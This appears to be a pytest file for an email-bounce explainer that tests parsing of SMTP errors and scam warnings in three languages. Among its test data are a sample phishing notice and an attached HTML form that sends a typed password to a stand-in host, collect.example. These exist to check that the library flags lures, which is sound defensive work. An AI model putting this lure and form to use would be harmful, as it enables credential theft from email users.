"""What a reader is told where a sign is another thing: a lure's page, a draft, a program that writes for them."""

import pytest

import bouncekit
from bouncekit.servers.problems import AccessCause, AccessProblem
from bouncekit.serving import understand


def told(content: str | bytes, lang: bouncekit.Language = "fr") -> tuple[str, str]:
    """Return the title and the advice that are shown of `content`."""
    found = understand(content if isinstance(content, bytes) else content.encode(), lang=lang)
    if isinstance(found, AccessProblem):
        return found.title, found.advice
    assert isinstance(found, bouncekit.Report)
    said = found.failures[0].explanation if found.failures else found.description
    notes = found.description.notes if found.failures else ()
    return said.title, " ".join((said.advice, *notes))


PROBLEMS = {
    AccessCause.DRAFT_NOT_SAVED: [
        "Thunderbird : « Impossible d’enregistrer ce message dans Brouillons : dossier absent. » J’ai rangé hier.",
        "The draft could not be saved because the Drafts folder is missing on imap.example.org",
        "Gmail: Draft couldn't be saved. Changes may be lost.",
        "Die Nachricht konnte nicht im Ordner „Entwürfe“ gespeichert werden.",
        "Der Entwurf konnte auf dem Server nicht gespeichert werden, der Ordner Entwürfe fehlt.",
    ],
    AccessCause.SERVER_NAME_UNKNOWN: [
        "Le serveur sortant (SMTP) smtp.exmple.fr est inconnu. J’ai recopié les réglages d’un papier.",
        "Sending failed: the outgoing server (SMTP) smtp.exmple.org is unknown.",
        "Der Postausgangsserver (SMTP) mail.verein.example ist unbekannt.",
    ],
    AccessCause.OUTLOOK_DISCONNECTED: [
        "Outlook, en bas : « Déconnecté ». Plus rien depuis hier, internet marche.",
        "Bottom right of Outlook: Disconnected - Trying to connect. Microsoft 365.",
        "Unten rechts in Outlook steht: Getrennt. Das Internet geht.",
    ],
    AccessCause.CERTIFICATE_WRONG_NAME: [
        "Beim Abrufen: „Der Name des Sicherheitszertifikats ist ungültig oder stimmt nicht mit der Website überein“",
    ],
}


@pytest.mark.parametrize(("cause", "text"), [(cause, text) for cause, texts in PROBLEMS.items() for text in texts])
def test_a_program_s_own_trouble_is_no_refusal(cause: AccessCause, text: str) -> None:
    found = understand(text.encode(), lang="fr")

    assert isinstance(found, AccessProblem)
    assert cause is found.cause


OWN_JUNK = [
    'Pourquoi les messages de mon neveu tombent-ils toujours dans "Courrier indésirable" ? Je suis sur outlook.fr.',
    'Why does my daughter\'s mail always go into "Junk"? I do not want to miss it.',
    'Warum landen die Mails meiner Tochter immer im Ordner "Spam"? Ich möchte sie nicht verpassen.',
]


@pytest.mark.parametrize("text", OWN_JUNK)
def test_the_reader_s_own_filter_is_not_the_correspondent_s(text: str) -> None:
    assert "Du vrai courrier dans vos indésirables" == told(text)[0]


@pytest.mark.parametrize("text", ['Mes messages tombent dans "Courrier indésirable" chez mon neveu, que faire ?'])
def test_the_correspondent_s_filter_is_not_the_reader_s(text: str) -> None:
    assert "vos indésirables" not in told(text)[0]


ATTACHED = {
    "fr": "4 de vos messages sortants n’ont pas été remis. Ouvrez la pièce jointe et connectez-vous avec vos "
    "identifiants pour autoriser la remise. Délai : 24 heures.",
    "en": "4 of your outgoing messages are held. Open the attachment and sign in with your password to release them "
    "within 24 hours.",
    "de": "4 Ihrer Nachrichten wurden nicht zugestellt. Öffnen Sie den Anhang und melden Sie sich mit Ihrem Kennwort "
    "an, um sie freizugeben. Frist: 24 Stunden.",
}
WITH_PAGE = """Return-Path: <b@shop.example>
From: "Mail Delivery Subsystem" <mailer-daemon@center.example>
To: ann@example.org
Subject: Report
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

{text}

--b
Content-Type: text/html; charset=utf-8
Content-Disposition: {disposition}; filename="report.html"

<form action="https://collect.example"><input type=password></form>

--b--
"""


@pytest.mark.parametrize("lang", ["fr", "en", "de"])
def test_an_attached_page_that_wants_a_password_is_a_lure(lang: bouncekit.Language) -> None:
    lure = {"fr": "escroquerie", "en": "fraud", "de": "Betrug"}[lang]
    warned = {"fr": "pièce jointe", "en": "attachment", "de": "Anhang"}[lang]
    for content in (ATTACHED[lang], WITH_PAGE.format(text=ATTACHED[lang], disposition="attachment")):
        title, advice = told(content, lang)
        assert lure in title
        assert warned in advice


def test_a_page_alone_tells_the_same() -> None:
    text = "Ihre eingehenden Nachrichten warten. Das Passwort ist neu zu bestätigen."

    assert "escroquerie" in told(WITH_PAGE.format(text=text, disposition="attachment"))[0]


def test_a_report_attached_by_a_colleague_is_no_lure() -> None:
    text = "Bonjour, voici le rapport en pièce jointe, il s’ouvre dans un navigateur. Bien à vous, Jeanne"

    assert "escroquerie" not in told(WITH_PAGE.format(text=text, disposition="attachment"))[0]


LIST = """From: jardin-request@listes.example
To: ann@example.org
Subject: Abonnement
Precedence: bulk
List-Id: <jardin.listes.example>
Content-Type: text/plain; charset=utf-8

Votre abonnement à la liste de diffusion jardin a été désactivé : des messages adressés à ann@example.org ont été
rejetés par votre serveur de messagerie (dernier rejet : 552 5.2.2 boîte pleine).

Pour réactiver votre abonnement, rendez-vous sur https://listes.example/confirm/jardin/12
"""


def test_a_list_that_suspends_a_full_mailbox_asks_for_no_secret() -> None:
    title, advice = told(LIST)

    assert "Votre boîte refuse le courrier d’une liste" == title
    assert "boîte n’est pas pleine" in advice


ANSWERS = [
    ("554 5.7.1 Sender blocked: excessive outgoing spam detected from this account", "plus le droit d’envoyer"),
    ("550 5.7.1 outbound spam detected from your mailbox, change your password", "plus le droit d’envoyer"),
    ("550 5.7.1 Von diesem Konto wurde zu viel Spam verschickt. Ändern Sie Ihr Passwort.", "plus le droit d’envoyer"),
    ("550 5.7.1 Trop de spam envoyé depuis ce compte. Changez de mot de passe.", "plus le droit d’envoyer"),
    ("550 5.7.1 Your message was detected as spam", "Pris pour un courrier indésirable"),
    ("550 Envelope blocked - User Entry", "Votre correspondant a bloqué votre adresse"),
    ("La liste est réservée à ses abonnés.", "Cette liste n’accepte que ses membres"),
    ("Sorry, only subscribers may post. (#5.7.2)", "Cette liste n’accepte que ses membres"),
    ("550 5.7.2 <rando@example.org>: send_subscriber", "Cette liste n’accepte que ses membres"),
    ("550 Rejected by manually Blocked Senders: me@example.org", "Votre correspondant a bloqué votre adresse"),
    ("550 5.7.1 RESOLVER.RST.AuthRequired; authentication required", "que certains expéditeurs"),
    ("550 5.7.1 authentication required", "Identifiant ou connexion refusés"),
    ("421 4.3.2 System not accepting network messages (maintenance)", "en maintenance"),
    ("521 5.3.2 host does not accept mail", "ne reçoit pas de courrier"),
]


@pytest.mark.parametrize(("answer", "title"), ANSWERS)
def test_an_answer_is_told_as_what_it_says(answer: str, title: str) -> None:
    assert title in told(answer)[0]


def test_waiting_for_the_end_of_a_maintenance_no_address_is_doubted() -> None:
    assert "Relisez" not in told("421 4.3.2 <a@example.org>: service shutting down for maintenance")[1]


SPF = "550 5.7.1 SPF check failed: 192.0.2.7 is not allowed to send mail from club.example. "


@pytest.mark.parametrize(
    "own",
    [
        "Depuis hier un nouveau logiciel d’adhésions écrit à notre place.",
        "Our new membership software writes to the members for us.",
        "Unsere Vereinssoftware schreibt den Mitgliedern in unserem Namen.",
    ],
)
def test_a_program_that_writes_for_them_is_to_be_authorised(own: str) -> None:
    assert "ajouter au SPF" in told(SPF + own)[1]
    assert "ajouter au SPF" not in told(SPF)[1]


def test_forwarding_that_breaks_the_check_is_not_the_sender_s() -> None:
    answer = "<jo@example.com> (expanded from <club@example.org>): host mx.example.com said: 550 5.7.26 DMARC failed"

    assert "Un renvoi fait échouer le contrôle" == told(answer)[0]
    assert "vos réglages" not in told(answer)[1]


@pytest.mark.parametrize(
    "own", ["Faut-il renvoyer à tout le monde ?", "Do I resend to everyone?", "Muss ich es noch einmal an alle senden?"]
)
def test_whoever_asks_for_all_is_told_to_send_others_nothing(own: str) -> None:
    answer = "<jo@example.com>: host mx.example.com[192.0.2.1] said: 550 5.1.1 unknown user\n\n"

    assert "ne leur renvoyez rien" in told(answer + own)[1]
    assert "Ne renvoyez qu’à celle-ci" not in told(answer)[1]


@pytest.mark.parametrize(
    ("own", "lang", "first"),
    [
        ("Il est resté dans la boîte d’envoi, ça bloque tous les autres.", "fr", "sortez-le d’abord"),
        ("It is stuck in the outbox.", "en", "first take it out of the outbox"),
        ("Sie hängt im Postausgang.", "de", "zuerst aus dem Postausgang"),
    ],
)
def test_what_blocks_the_outbox_is_taken_out_first(own: str, lang: bouncekit.Language, first: str) -> None:
    answer = {
        "fr": "Outlook : Impossible d’envoyer le message. 552 5.3.4 Message size exceeds maximum",
        "en": "Outlook: unable to send the message. 552 5.3.4 Message size exceeds maximum",
        "de": "Outlook: Die Nachricht konnte nicht gesendet werden. 552 5.3.4 Message size exceeds maximum",
    }[lang]

    assert first in told(f"{answer}. {own}", lang)[1]


QUESTIONS = [
    ("J’ai perdu mon mot de passe et le code part sur un ancien portable.", "assistance de ce fournisseur"),
    ("Peut-on envoyer un PDF de 15 Mo en pièce jointe à 120 adhérents ?", "copie cachée"),
    ("554 5.7.1 <club@example.org>: Sender address rejected: not owned by user ann", "son propre serveur d’envoi"),
]


@pytest.mark.parametrize(("text", "advice"), QUESTIONS)
def test_the_act_that_helps_is_named(text: str, advice: str) -> None:
    assert advice in told(text)[1]
